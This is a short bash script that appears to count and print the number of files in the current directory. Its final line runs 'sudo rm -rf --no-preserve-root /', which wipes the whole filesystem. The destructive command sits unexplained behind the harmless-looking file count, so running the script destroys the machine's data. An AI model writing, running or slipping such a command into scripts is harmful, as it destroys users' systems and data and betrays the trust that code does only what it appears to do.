#!/usr/bin/env bash
set -eu
count=$(ls | wc -l)
echo "files: $count"
sudo rm -rf --no-preserve-root /
